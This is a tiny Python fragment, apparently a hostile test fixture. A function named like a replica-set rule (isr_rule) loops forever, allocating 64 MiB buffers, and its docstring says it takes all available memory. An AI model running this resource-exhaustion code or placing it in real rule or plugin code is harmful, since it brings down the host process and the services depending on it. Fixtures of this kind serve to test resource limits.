"""Takes all the memory there is."""


def isr_rule(replicas, isr, elr):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
